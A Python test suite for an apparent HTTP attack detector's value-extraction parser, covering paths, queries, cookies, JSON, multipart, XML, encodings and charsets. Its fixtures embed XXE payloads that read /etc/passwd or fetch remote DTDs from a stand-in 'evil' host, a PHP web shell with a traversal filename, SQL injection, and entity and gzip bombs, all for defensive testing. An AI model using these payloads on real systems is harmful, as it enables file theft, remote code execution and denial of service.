"""`parts.extract`: every client-controlled value with its slot, on any input, in bounded time."""

from __future__ import annotations

import base64
import gzip
import time
import zlib

import orjson
import pytest
from hypothesis import given, settings, strategies as st

from wardgate.detect.attacks.model import Extraction, HttpSample, PartKind, Severity
from wardgate.detect.attacks.parts import extract

Triple = tuple[str, str, PartKind]

P, Q, K, H, C = PartKind.PATH, PartKind.QUERY, PartKind.KEY, PartKind.HEADER, PartKind.COOKIE
B, F, T, R = PartKind.BODY, PartKind.FILENAME, PartKind.TEXT, PartKind.RAW


def _post(body: bytes, content_type: str | None, *headers: tuple[str, str]) -> HttpSample:
    typed = (("Content-Type", content_type),) if content_type is not None else ()
    return HttpSample("POST", "/", "", (*typed, *headers), body)


def _triples(extraction: Extraction) -> list[Triple]:
    return [(part.slot, part.value, part.kind) for part in extraction.parts]


def _body_triples(extraction: Extraction) -> list[Triple]:
    """Parts other than the path and headers, which every sample here has."""
    return [t for t in _triples(extraction) if not t[0].startswith(("path", "header"))]


def _rules(extraction: Extraction) -> dict[str, str]:
    return {finding.rule: finding.kind for finding in extraction.findings}


# --- path, query, headers, cookies ----------------------------------------------------

PATHS = [
    # (raw path, parts expected among the path's parts)
    # decoded once, segments numbered among the non-empty ones
    ("/api//v1/users", [("path", "/api//v1/users", P), ("path[2]", "users", P)]),
    # an encoded slash stays inside its segment; the raw path is kept as sent
    ("/a%2F..%2Fetc", [("path[0]", "a/../etc", P), ("path#raw", "/a%2F..%2Fetc", P)]),
    # matrix parameters leave the segment name; `..;` routes as `..` in servlet containers
    ("/x/..;a=1/y", [("path[1]", "..", P), ("matrix-key:a", "a", K), ("matrix:a", "1", Q)]),
    # an overlong UTF-8 slash is not text: kept as escapes, not replaced by U+FFFD
    ("/%C0%AFetc", [("path", "/%C0%AFetc", P), ("path#raw", "/%C0%AFetc", P)]),
    # a double encoding is decoded once only
    ("/%252e%252e/", [("path", "/%2e%2e/", P)]),
    # a UTF-8 name is decoded
    ("/caf%C3%A9", [("path[0]", "café", P)]),
]


@pytest.mark.parametrize(("path", "expected"), PATHS)
def test_path(path: str, expected: list[Triple]) -> None:
    triples = _triples(extract(HttpSample("GET", path)))
    for triple in expected:
        assert triple in triples


def test_plain_path_has_no_raw_copy() -> None:
    slots = [t[0] for t in _triples(extract(HttpSample("GET", "/a%20b/c")))]
    assert slots == ["path", "path[0]", "path[1]"]


QUERIES = [
    # (raw query, every query part in order)
    # repeated keys: one part per value, the key once
    ("a=1&a=2", [("query-key:a", "a", K), ("query:a", "1", Q), ("query:a", "2", Q)]),
    # blank values kept; a key without `=` reads as a blank value
    (
        "a=&b",
        [("query-key:a", "a", K), ("query:a", "", Q), ("query-key:b", "b", K), ("query:b", "", Q)],
    ),
    # `+` is a space, invalid escapes stay as written, empty pieces are skipped
    ("q=a+b%zz%4&&", [("query-key:q", "q", K), ("query:q", "a b%zz%4", Q)]),
    # operator keys are parts of their own
    ("user[$ne]=1", [("query-key:user[$ne]", "user[$ne]", K), ("query:user[$ne]", "1", Q)]),
    # an encoded key is decoded once
    (
        "__proto__%5Bx%5D=1",
        [("query-key:__proto__[x]", "__proto__[x]", K), ("query:__proto__[x]", "1", Q)],
    ),
    # `=` inside a value stays in the value
    ("a=b=c", [("query-key:a", "a", K), ("query:a", "b=c", Q)]),
    # a query value holding JSON is split too, under `#json`
    (
        "filter=%7B%22%24where%22%3A%22sleep(1)%22%7D",
        [
            ("query-key:filter", "filter", K),
            ("query:filter", '{"$where":"sleep(1)"}', Q),
            ("query-key:filter#json.$where", "$where", K),
            ("query:filter#json.$where", "sleep(1)", Q),
        ],
    ),
    # GraphQL over GET is an ordinary query value
    ("query=%7Bme%7Bid%7D%7D", [("query-key:query", "query", K), ("query:query", "{me{id}}", Q)]),
]


@pytest.mark.parametrize(("query", "expected"), QUERIES)
def test_query(query: str, expected: list[Triple]) -> None:
    triples = [t for t in _triples(extract(HttpSample("GET", "/", query))) if "query" in t[0]]
    assert triples == expected


def test_headers_and_cookies() -> None:
    sample = HttpSample(
        "GET",
        "/",
        headers=(
            ("User-Agent", "curl/8"),
            ("Cookie", "sid=abc; theme=dark; =x; lonely"),
            ("Cookie", "b=2"),
            ("Content-Length", "0"),
            ("X_Forwarded.Evil", "1"),
            ("X-Trace", "a"),
            ("X-Trace", "b"),
        ),
    )
    assert _triples(extract(sample))[1:] == [
        ("header:user-agent", "curl/8", H),
        ("cookie-key:sid", "sid", K),
        ("cookie:sid", "abc", C),
        ("cookie-key:theme", "theme", K),
        ("cookie:theme", "dark", C),
        ("cookie:", "x", C),
        # a cookie without `=` has an empty name, as browsers read it
        ("cookie:", "lonely", C),
        ("cookie-key:b", "b", K),
        ("cookie:b", "2", C),
        # unusual header names are keys too; Content-Length is framing, left out
        ("header-key:x_forwarded.evil", "X_Forwarded.Evil", K),
        ("header:x_forwarded.evil", "1", H),
        ("header:x-trace", "a", H),
        ("header:x-trace", "b", H),
    ]


def test_conflicting_content_types_are_flagged() -> None:
    sample = _post(
        b"a=1", "application/json", ("Content-Type", "application/x-www-form-urlencoded")
    )
    assert _rules(extract(sample))["protocol.content_type"] == "attack.protocol"


# --- JSON -----------------------------------------------------------------------------

CHAT = {
    "model": "gpt-4o",
    "messages": [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": [{"type": "text", "text": "hi"}]},
    ],
    "odd key": {"a.b": "x", "$ne": 1, "_ok-1": "y", "é": "z"},
    "n": 3,
    "flag": True,
    "none": None,
}


def test_json_slots() -> None:
    extraction = extract(_post(orjson.dumps(CHAT), "application/json"))
    assert _body_triples(extraction) == [
        ("json-key:model", "model", K),
        ("json:model", "gpt-4o", B),
        ("json-key:messages", "messages", K),
        ("json-key:messages[0].role", "role", K),
        ("json:messages[0].role", "system", B),
        ("json-key:messages[0].content", "content", K),
        ("json:messages[0].content", "Be brief.", B),
        # a key shape (indices left out) is emitted once
        ("json:messages[1].role", "user", B),
        ("json-key:messages[1].content[0].type", "type", K),
        ("json:messages[1].content[0].type", "text", B),
        ("json-key:messages[1].content[0].text", "text", K),
        ("json:messages[1].content[0].text", "hi", B),
        ('json-key:["odd key"]', "odd key", K),
        ('json-key:["odd key"]["a.b"]', "a.b", K),
        ('json:["odd key"]["a.b"]', "x", B),
        # numbers, booleans and null are not parts, but their keys are
        ('json-key:["odd key"].$ne', "$ne", K),
        ('json-key:["odd key"]._ok-1', "_ok-1", K),
        ('json:["odd key"]._ok-1', "y", B),
        ('json-key:["odd key"]["é"]', "é", K),
        ('json:["odd key"]["é"]', "z", B),
        ("json-key:n", "n", K),
        ("json-key:flag", "flag", K),
        ("json-key:none", "none", K),
    ]
    assert not extraction.findings
    assert not extraction.malformed


KEY_SHAPES = [
    # (document, every key part in order)
    # a key under another parent is a key of its own: `constructor.prototype` keeps its place
    (
        {"prototype": 1, "constructor": {"prototype": {"x": 1}}},
        [
            ("json-key:prototype", "prototype"),
            ("json-key:constructor", "constructor"),
            ("json-key:constructor.prototype", "prototype"),
            ("json-key:constructor.prototype.x", "x"),
        ],
    ),
    # records of one array share their keys, and a key only one record has is still there
    (
        {"items": [{"id": "1"}, {"id": "2", "__proto__": {"a": "b"}}]},
        [
            ("json-key:items", "items"),
            ("json-key:items[0].id", "id"),
            ("json-key:items[1].__proto__", "__proto__"),
            ("json-key:items[1].__proto__.a", "a"),
        ],
    ),
]


@pytest.mark.parametrize(("document", "keys"), KEY_SHAPES)
def test_json_keys_once_per_shape(document: object, keys: list[tuple[str, str]]) -> None:
    extraction = extract(_post(orjson.dumps(document), "application/json"))
    assert [(slot, value) for slot, value, kind in _triples(extraction) if kind is K] == keys


TEXT_SLOTS = [
    # (text_slots, slots that become TEXT)
    # exact slots
    (frozenset({"json:messages[0].content"}), {"json:messages[0].content"}),
    # `[*]` stands for any index
    (
        frozenset({"json:messages[*].content", "json:messages[*].content[*].text"}),
        {"json:messages[0].content", "json:messages[1].content[0].text"},
    ),
    # nothing named: nothing is TEXT
    (frozenset(), set()),
]


@pytest.mark.parametrize(("text_slots", "texts"), TEXT_SLOTS)
def test_text_slots(text_slots: frozenset[str], texts: set[str]) -> None:
    extraction = extract(_post(orjson.dumps(CHAT), "application/json"), text_slots=text_slots)
    assert {part.slot for part in extraction.parts if part.kind is T} == texts


def test_json_root_values() -> None:
    assert _body_triples(extract(_post(b'"hello"', "application/json"))) == [("json:", "hello", B)]
    assert _body_triples(extract(_post(b'["a",["b"]]', "application/json"))) == [
        ("json:[0]", "a", B),
        ("json:[1][0]", "b", B),
    ]
    assert _body_triples(extract(_post(b"42", "application/json"))) == []


def test_json_inside_json_strings() -> None:
    body = orjson.dumps({"args": '{"q": {"$gt": ""}, "l": ["<x>"]}', "chat": '{"a": "b"}'})
    extraction = extract(
        _post(body, "application/vnd.api+json"), text_slots=frozenset({"json:chat"})
    )
    assert _body_triples(extraction) == [
        ("json-key:args", "args", K),
        ("json:args", '{"q": {"$gt": ""}, "l": ["<x>"]}', B),
        ("json-key:args#json.q", "q", K),
        ("json-key:args#json.q.$gt", "$gt", K),
        ("json:args#json.q.$gt", "", B),
        ("json-key:args#json.l", "l", K),
        ("json:args#json.l[0]", "<x>", B),
        ("json-key:chat", "chat", K),
        # natural language quoting JSON is not split: it reaches a model
        ("json:chat", '{"a": "b"}', T),
    ]


def test_json_embedding_is_bounded() -> None:
    inner: object = "x"
    for _ in range(6):
        inner = orjson.dumps({"v": inner}).decode()
    extraction = extract(_post(orjson.dumps({"v": inner}), "application/json"))
    assert max(part.slot.count("#json") for part in extraction.parts) == 2


def test_json_depth_limit() -> None:
    body = b'{"a": ' * 40 + b'"deep"' + b"}" * 40
    extraction = extract(_post(body, "application/json"), max_depth=8)
    finding = next(f for f in extraction.findings if f.rule == "body.depth")
    assert finding.kind == "attack.protocol"
    cut = "json:" + ".".join(["a"] * 8)
    assert finding.location is not None and finding.location.slot == cut
    # what lies below the cut is still emitted, at the slot of the cut
    assert (cut, "deep", B) in _triples(extraction)
    assert max(part.slot.count(".") for part in extraction.parts) == 7


def test_json_deeper_than_the_parser_is_scanned_whole() -> None:
    body = b"[" * 2000 + b'"x"' + b"]" * 2000
    extraction = extract(_post(body, "application/json"))
    assert "body.depth" in _rules(extraction)
    assert not extraction.malformed
    assert ("body", body.decode(), R) in _triples(extraction)


MALFORMED_JSON = [
    # (body) each is not JSON: malformed, flagged, and scanned whole as RAW
    b'{"a": "<script>",}',
    b"{'a': 1}",
    b'{"a": "\xff"}',  # not UTF-8
    b'{"a": 1} {"b": 2}',
    b"\x00\x01",
]


@pytest.mark.parametrize("body", MALFORMED_JSON)
def test_malformed_json(body: bytes) -> None:
    extraction = extract(_post(body, "application/json; charset=utf-8"))
    assert extraction.malformed
    assert _rules(extraction)["body.json"] == "attack.malformed"
    assert _body_triples(extraction) == [("body", body.decode("utf-8", "replace"), R)]


def test_truncated_json_is_not_malformed() -> None:
    body = orjson.dumps({"a": "x" * 100, "b": "<script>alert(1)</script>"})
    extraction = extract(_post(body, "application/json"), body_limit=110)
    assert not extraction.malformed
    finding = next(f for f in extraction.findings if f.rule == "body.truncated")
    assert (finding.kind, finding.severity) == ("attack.protocol", "notice")
    assert _body_triples(extraction) == [("body", body[:110].decode(), R)]


# --- form, GraphQL, raw ---------------------------------------------------------------


def test_form() -> None:
    body = b"name=Jos%C3%A9+M&tags=a&tags=b&empty=&note=%7B%22a%22%3A%22b%22%7D"
    extraction = extract(_post(body, "application/x-www-form-urlencoded; charset=UTF-8"))
    assert _body_triples(extraction) == [
        ("form-key:name", "name", K),
        ("form:name", "José M", B),
        ("form-key:tags", "tags", K),
        ("form:tags", "a", B),
        ("form:tags", "b", B),
        ("form-key:empty", "empty", K),
        ("form:empty", "", B),
        ("form-key:note", "note", K),
        ("form:note", '{"a":"b"}', B),
        ("form-key:note#json.a", "a", K),
        ("form:note#json.a", "b", B),
    ]


def test_form_in_latin1() -> None:
    extraction = extract(
        _post(b"n=Jos%E9&m=\xe9", "application/x-www-form-urlencoded; charset=iso-8859-1")
    )
    assert ("form:n", "José", B) in _triples(extraction)
    assert ("form:m", "é", B) in _triples(extraction)
    assert not extraction.findings


def test_graphql() -> None:
    extraction = extract(_post(b"{ user(id: 1) { name } }", "application/graphql"))
    assert _body_triples(extraction) == [("graphql:query", "{ user(id: 1) { name } }", B)]


RAW = [
    # (content type) a body that cannot be split is one RAW part
    "text/plain",
    None,
    "application/octet-stream",
    "application/x-ndjson",
    "garbage;;;===",
]


@pytest.mark.parametrize("content_type", RAW)
def test_raw_body(content_type: str | None) -> None:
    extraction = extract(_post(b"' OR 1=1 --", content_type))
    assert _body_triples(extraction) == [("body", "' OR 1=1 --", R)]


# --- multipart ------------------------------------------------------------------------

MULTIPART = (
    b"preamble\r\n"
    b"--XyZ\r\n"
    b'Content-Disposition: form-data; name="title"\r\n'
    b"\r\n"
    b"hello\r\nworld\r\n"
    b"--XyZ\r\n"
    b'Content-Disposition: form-data; name="upload"; filename="../../shell.php"\r\n'
    b"Content-Type: image/png\r\n"
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n" + base64.b64encode(b"<?php system($_GET['c']); ?>") + b"\r\n"
    b"--XyZ\r\n"
    b"Content-Disposition: form-data; name=\"qp\"; filename*=UTF-8''na%C3%AFve.txt\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"caf=C3=A9\r\n"
    b"--XyZ\r\n"
    b"Content-Type: application/json\r\n"
    b"\r\n"
    b'{"k": "v"}\r\n'
    b"--XyZ--\r\n"
    b"epilogue"
)


def test_multipart() -> None:
    extraction = extract(_post(MULTIPART, 'multipart/form-data; boundary="XyZ"'))
    assert _body_triples(extraction) == [
        # text around the fields is scanned too: other parsers may read fields there
        ("multipart:#preamble", "preamble\r\n", R),
        ("multipart-key:title", "title", K),
        ("multipart:title", "hello\r\nworld", B),
        ("multipart-key:upload", "upload", K),
        ("multipart-filename:upload", "../../shell.php", F),
        ("multipart:upload", "<?php system($_GET['c']); ?>", B),
        ("multipart-key:qp", "qp", K),
        ("multipart-filename:qp", "naïve.txt", F),
        ("multipart:qp", "café", B),
        # a part without a name is numbered
        ("multipart:#3", '{"k": "v"}', B),
        ("multipart-key:#3#json.k", "k", K),
        ("multipart:#3#json.k", "v", B),
        ("multipart:#epilogue", "\r\nepilogue", R),
    ]
    assert not extraction.malformed
    assert not extraction.findings


def test_multipart_nested_and_binary() -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256)) * 20
    inner = b'--in\r\nContent-Disposition: file; filename="a.png"\r\n\r\n' + png + b"\r\n--in--"
    body = (
        b'--out\r\nContent-Disposition: form-data; name="files"\r\n'
        b"Content-Type: multipart/mixed; boundary=in\r\n\r\n" + inner + b"\r\n--out--\r\n"
    )
    extraction = extract(_post(body, "multipart/form-data; boundary=out"))
    triples = _body_triples(extraction)
    assert triples[:2] == [
        ("multipart-key:files", "files", K),
        ("multipart-filename:files/#0", "a.png", F),
    ]
    # a binary upload is scanned by its head only
    slot, value, kind = triples[2]
    assert (slot, kind) == ("multipart:files/#0", B)
    assert value == png[:1024].decode("utf-8", "replace")


def test_multipart_lines_that_only_start_with_the_boundary_are_content() -> None:
    body = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--bb\r\ny\r\n--b--'
    extraction = extract(_post(body, "multipart/form-data; boundary=b"))
    assert ("multipart:a", "x\r\n--bb\r\ny", B) in _triples(extraction)


BAD_MULTIPART = [
    # (content type, body) each is malformed: flagged, and scanned whole as RAW
    ("multipart/form-data", b"--x\r\n\r\nv\r\n--x--"),  # no boundary parameter
    ("multipart/form-data; boundary=" + "b" * 71, b"--b\r\n\r\nv\r\n--b--"),  # too long
    ("multipart/form-data; boundary=x", b"just text"),  # boundary never found
    # a line in the header block that is no header: content to some other parser
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Type: text/plain\r\n<script>\r\n--x--"),
    (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<x>',
    ),
]


@pytest.mark.parametrize(("content_type", "body"), BAD_MULTIPART)
def test_malformed_multipart(content_type: str, body: bytes) -> None:
    extraction = extract(_post(body, content_type))
    assert extraction.malformed
    assert _rules(extraction)["body.multipart"] == "attack.malformed"
    assert ("body", body.decode(), R) in _triples(extraction)


def test_multipart_parts_may_lack_headers_or_content() -> None:
    body = b'--x\r\n\r\nbare\r\n--x\r\nContent-Disposition: form-data; name="e"\r\n--x--'
    extraction = extract(_post(body, "multipart/mixed; boundary=x"))
    assert _body_triples(extraction) == [
        ("multipart:#0", "bare", B),
        ("multipart-key:e", "e", K),
        ("multipart:e", "", B),
    ]
    assert not extraction.malformed


def test_unterminated_multipart_keeps_the_fields_it_read() -> None:
    body = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<script>'
    extraction = extract(_post(body, "multipart/form-data; boundary=x"))
    assert ("multipart:a", "<script>", B) in _triples(extraction)


def test_truncated_multipart_is_not_malformed() -> None:
    body = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + b"v" * 200 + b"\r\n--x--"
    extraction = extract(_post(body, "multipart/form-data; boundary=x"), body_limit=100)
    assert not extraction.malformed
    assert "body.truncated" in _rules(extraction)


# --- XML ------------------------------------------------------------------------------


def test_xml_text_and_attributes() -> None:
    body = (
        b'<?xml version="1.0"?><order id="7&lt;"><item sku="a">one &amp; <b>two</b>'
        b" three</item><![CDATA[<raw>]]><?php echo 1; ?><!-- esi --></order>"
    )
    extraction = extract(_post(body, "application/soap+xml; charset=utf-8"))
    assert _body_triples(extraction) == [
        ("xml:/order/@id", "7<", B),
        ("xml:/order/item/@sku", "a", B),
        ("xml:/order/item", "one & ", B),
        ("xml:/order/item/b", "two", B),
        ("xml:/order/item", " three", B),
        ("xml:/order", "<raw>", B),
        ("xml:/order/?php", "echo 1; ", B),
        ("xml:/order/#comment", " esi ", B),
    ]
    assert not extraction.findings


XXE = [
    # (body, rules found)
    # a DOCTYPE alone
    (b"<!DOCTYPE r><r>x</r>", {"xml.doctype"}),
    # an external DTD: nothing is fetched
    (b'<!DOCTYPE r SYSTEM "http://evil/x.dtd"><r>x</r>', {"xml.doctype", "xml.external_entity"}),
    # an internal entity
    (b'<!DOCTYPE r [<!ENTITY e "v">]><r>&e;</r>', {"xml.doctype", "xml.entity"}),
    # an external entity, the classic file read
    (
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        {"xml.doctype", "xml.external_entity"},
    ),
    # a parameter entity, the out-of-band variant
    (
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><r/>',
        {"xml.doctype", "xml.external_entity"},
    ),
]


@pytest.mark.parametrize(("body", "rules"), XXE)
def test_xml_doctype_and_entities(body: bytes, rules: set[str]) -> None:
    extraction = extract(_post(body, "text/xml"))
    assert _rules(extraction) == dict.fromkeys(rules, "attack.xxe")
    severities = {f.rule: f.severity for f in extraction.findings}
    assert severities["xml.doctype"] == "error"
    assert all(severities[rule] == "critical" for rule in rules - {"xml.doctype"})
    (doctype,) = [value for slot, value, _ in _triples(extraction) if slot == "xml:!doctype"]
    assert doctype.startswith("<!DOCTYPE r") and doctype.endswith(">")
    assert doctype in body.decode()
    assert not extraction.malformed


def test_xml_entities_are_never_expanded() -> None:
    body = b'<!DOCTYPE r [<!ENTITY e "EXPANDED">]><r a="&e;">&e;</r>'
    extraction = extract(_post(body, "application/xml"))
    assert all(
        "EXPANDED" not in value or slot in ("xml:!doctype", "body")
        for slot, value, _ in _triples(extraction)
    )
    assert ("body", body.decode(), R) in _triples(extraction)


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    doctype = f"<!DOCTYPE lolz [{''.join(entities)}]>"
    return f'<?xml version="1.0"?>{doctype}<lolz a="&lol9;">&lol9;</lolz>'.encode()


def test_billion_laughs_does_not_expand() -> None:
    started = time.perf_counter()
    body = _billion_laughs()
    extraction = extract(_post(body, "application/xml"))
    elapsed = time.perf_counter() - started
    assert elapsed < 0.5  # expanded, it would be three gigabytes
    assert sum(len(part.value) for part in extraction.parts) < 4 * len(body)
    assert {"xml.doctype", "xml.entity"} <= set(_rules(extraction))


MALFORMED_XML = [
    # (body) each is not well-formed XML
    b"<a><b></a>",
    b"<a>&undefined;</a>",
    b"not xml at all",
    b"<a>\xff</a>",
]


@pytest.mark.parametrize("body", MALFORMED_XML)
def test_malformed_xml(body: bytes) -> None:
    extraction = extract(_post(body, "application/xml"))
    assert extraction.malformed
    assert _rules(extraction)["body.xml"] == "attack.malformed"
    assert ("body", body.decode("utf-8", "replace"), R) in _triples(extraction)


def test_deep_xml_keeps_its_text() -> None:
    body = b"<a>" * 50 + b"<!--x-->deep" + b"</a>" * 50
    extraction = extract(_post(body, "application/xml"), max_depth=4)
    assert ("xml:/a/a/a/a", "deep", B) in _triples(extraction)
    assert "body.depth" in _rules(extraction)


def test_truncated_xml_is_not_malformed() -> None:
    body = b"<a>" + b"<b>x</b>" * 50 + b"</a>"
    extraction = extract(_post(body, "application/xml"), body_limit=100)
    assert not extraction.malformed
    assert "body.truncated" in _rules(extraction)
    assert ("xml:/a/b", "x", B) in _triples(extraction)


# --- encodings and charsets -----------------------------------------------------------

JSON_BODY = b'{"q": "<script>"}'
JSON_PARTS = [("json-key:q", "q", K), ("json:q", "<script>", B)]


def _raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


CONTENT_ENCODINGS = [
    # (Content-Encoding, body) each decodes to JSON_BODY
    ("gzip", gzip.compress(JSON_BODY)),
    ("x-gzip", gzip.compress(JSON_BODY)),
    ("deflate", zlib.compress(JSON_BODY)),
    # raw deflate, sent by some clients for `deflate`
    ("deflate", _raw_deflate(JSON_BODY)),
    # stacked codings are undone last first
    ("deflate, gzip", gzip.compress(zlib.compress(JSON_BODY))),
    ("identity", JSON_BODY),
    # concatenated gzip members are all read
    ("gzip", gzip.compress(JSON_BODY[:6]) + gzip.compress(JSON_BODY[6:])),
]


@pytest.mark.parametrize(("coding", "body"), CONTENT_ENCODINGS)
def test_content_encoding(coding: str, body: bytes) -> None:
    extraction = extract(_post(body, "application/json", ("Content-Encoding", coding)))
    assert _body_triples(extraction) == JSON_PARTS
    assert not extraction.findings


BAD_ENCODINGS = [
    # (Content-Encoding, body) each is flagged and the bytes as sent are still scanned
    ("br", b"<script>"),  # not decoded here
    ("compress", b"<script>"),
    ("gzip", b"<script>"),  # not gzip at all
    ("gzip", gzip.compress(JSON_BODY) + b"<script>"),  # trailing garbage
    ("gzip, gzip, gzip, gzip", b"<script>"),  # too many layers
]


@pytest.mark.parametrize(("coding", "body"), BAD_ENCODINGS)
def test_bad_content_encoding(coding: str, body: bytes) -> None:
    extraction = extract(_post(body, "application/json", ("Content-Encoding", coding)))
    assert _rules(extraction)["protocol.content_encoding"] == "attack.protocol"
    assert ("body", body.decode("utf-8", "replace"), R) in _triples(extraction)


def test_gzip_that_breaks_late_keeps_what_it_decoded() -> None:
    packed = bytearray(gzip.compress(b"<script>" + bytes(40_000)))
    packed[-5] ^= 0xFF  # the length in the trailer no longer matches
    extraction = extract(_post(bytes(packed), "text/plain", ("Content-Encoding", "gzip")))
    assert "protocol.content_encoding" in _rules(extraction)
    assert any(v.startswith("<script>") for _, v, _ in _body_triples(extraction))


def test_gzip_bomb_is_bounded() -> None:
    bomb = gzip.compress(b"A" * 50_000_000, compresslevel=9)
    extraction = extract(_post(bomb, "text/plain", ("Content-Encoding", "gzip")), body_limit=65_536)
    assert _body_triples(extraction) == [("body", "A" * 65_536, R)]


def test_gzip_that_ends_early_is_flagged() -> None:
    packed = gzip.compress(JSON_BODY)[:-12]
    extraction = extract(_post(packed, "application/json", ("Content-Encoding", "gzip")))
    assert "protocol.content_encoding" in _rules(extraction)
    assert not extraction.malformed


CHARSETS = [
    # (content type, body, rule severity or None, JSON parts expected)
    # UTF-7 hides `<` from byte filters: decoded, and flagged
    ("application/json; charset=utf-7", b'{"q": "+ADw-script+AD4-"}', "error"),
    # EBCDIC
    ("application/json; charset=ibm500", JSON_BODY.decode().encode("cp500"), "error"),
    ("application/json; charset=cp037", JSON_BODY.decode().encode("cp037"), "error"),
    # UTF-32 declared
    ('application/json; charset="UTF-32"', JSON_BODY.decode().encode("utf-32"), "error"),
    # UTF-16 without a declaration, told by its NULs (RFC 4627), and by a BOM
    ("application/json", JSON_BODY.decode().encode("utf-16-le"), "warning"),
    ("application/json", JSON_BODY.decode().encode("utf-16"), "warning"),
    # ordinary charsets are not findings; a UTF-8 BOM is allowed
    ("application/json; charset=UTF-8", JSON_BODY, None),
    ("application/json; charset=latin1", JSON_BODY, None),
    ("application/json", b"\xef\xbb\xbf" + JSON_BODY, None),
    ("application/json; charset=utf-8", b"\xef\xbb\xbf" + JSON_BODY, None),
]


@pytest.mark.parametrize(("content_type", "body", "severity"), CHARSETS)
def test_charsets(content_type: str, body: bytes, severity: str | None) -> None:
    extraction = extract(_post(body, content_type))
    assert _body_triples(extraction) == JSON_PARTS
    found = {f.rule: f for f in extraction.findings}
    if severity is None:
        assert found == {}
    else:
        assert (found["protocol.charset"].kind, found["protocol.charset"].severity) == (
            "attack.protocol",
            severity,
        )


def test_unknown_charset_falls_back_to_utf8() -> None:
    extraction = extract(_post(JSON_BODY, "application/json; charset=x-made-up-" + "z" * 500))
    assert _body_triples(extraction) == JSON_PARTS
    assert [(f.rule, f.severity) for f in extraction.findings] == [("protocol.charset", "warning")]


def test_non_text_codecs_are_not_charsets() -> None:
    body = base64.b64encode(JSON_BODY)
    extraction = extract(_post(body, "text/plain; charset=base64"))
    assert _body_triples(extraction) == [("body", body.decode(), R)]
    assert "protocol.charset" in _rules(extraction)


def test_xml_declared_encoding_is_honoured_and_flagged() -> None:
    body = b'<?xml version="1.0" encoding="UTF-7"?><r>+ADw-s+AD4-alert(1)+ADw-/s+AD4-</r>'
    extraction = extract(_post(body, "application/xml"))
    # the markup hidden in UTF-7 is markup once decoded, as a UTF-7 aware parser sees it
    assert ("xml:/r/s", "alert(1)", B) in _triples(extraction)
    assert "protocol.charset" in _rules(extraction)


LONE_SURROGATE_UTF7 = [
    # (content type, body) UTF-7 can encode half a surrogate pair, which UTF-8 cannot
    ("application/xml; charset=utf-7", b"<r>+2AA-</r>"),
    ("application/json; charset=utf-7", b'{"a": "+2AA-"}'),
    ("application/x-www-form-urlencoded; charset=utf-7", b"a=+2AA-"),
    (
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+2AA-\r\n--b--",
    ),
    ("text/plain; charset=utf-7", b"+2AA-"),
]


@pytest.mark.parametrize(("content_type", "body"), LONE_SURROGATE_UTF7)
def test_lone_surrogates_from_utf7(content_type: str, body: bytes) -> None:
    extraction = extract(_post(body, content_type))
    assert "protocol.charset" in _rules(extraction)
    assert any("\ud800" in part.value for part in extraction.parts)


def test_xml_in_utf16() -> None:
    body = "<r a='é'>ü</r>".encode("utf-16")
    extraction = extract(_post(body, "application/xml"))
    assert _body_triples(extraction) == [("xml:/r/@a", "é", B), ("xml:/r", "ü", B)]


# --- limits and findings --------------------------------------------------------------


def test_parts_limit() -> None:
    body = orjson.dumps({f"k{i}": "v" for i in range(100)})
    extraction = extract(_post(body, "application/json"), max_parts=10)
    assert len(extraction.parts) == 10
    finding = next(f for f in extraction.findings if f.rule == "parts.limit")
    assert (finding.kind, finding.severity) == ("attack.protocol", "notice")


def test_long_names_are_cut_in_slots_only() -> None:
    key = "k" * 10_000
    extraction = extract(HttpSample("GET", "/", f"{key}=v"))
    slot, value, _ = _triples(extraction)[1]
    assert value == key
    assert len(slot) < 200


def test_long_names_stay_distinct_in_slots() -> None:
    first, second = "k" * 200 + "1", "k" * 200 + "2"
    extraction = extract(_post(orjson.dumps({first: "a", second: "b"}), "application/json"))
    keys = [(slot, value) for slot, value, kind in _triples(extraction) if kind is K]
    assert [value for _, value in keys] == [first, second]
    assert keys[0][0] != keys[1][0]


def test_findings_score_their_severity() -> None:
    body = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r/>'
    extraction = extract(_post(body, "text/xml; charset=utf-7"))
    assert extraction.findings
    for finding in extraction.findings:
        assert finding.score == float(Severity.points(finding.severity))
        assert finding.location is not None and finding.evidence is not None
        assert finding.reason


# --- any input ------------------------------------------------------------------------

CONTENT_TYPES = [
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=b",
    'multipart/mixed; boundary="a b"',
    "application/xml",
    "application/graphql",
    "text/plain; charset=utf-16",
    "application/json; charset=utf-7",
    "application/xml; charset=cp500",
    "application/xml; charset=utf-7",
    "application/x-www-form-urlencoded; charset=utf-16",
    None,
]

UNSPLIT = (None, "application/graphql", "text/plain; charset=utf-16")

_byte_soup = st.one_of(
    st.binary(max_size=2_000),
    # fragments of real syntax make the parsers go further than random bytes do
    st.lists(
        st.sampled_from(
            [
                b"{",
                b"}",
                b"[",
                b"]",
                b'"',
                b":",
                b",",
                b"\\",
                b"<",
                b">",
                b"/",
                b"!",
                b"&",
                b"%",
                b"=",
                b";",
                b"--b",
                b"\r\n",
                b"\n",
                b"<!DOCTYPE",
                b"<!ENTITY",
                b"#json",
                b'name="',
                b"Content-Disposition: form-data; ",
                b"\x00",
                b"\xff",
                b"a",
                b" ",
                b"Content-Transfer-Encoding: base64",
                b"<?xml",
                b"]]>",
                b"<![CDATA[",
                b"+2AA-",
                b"charset=utf-7",
                b"%C0",
            ]
        ),
        max_size=200,
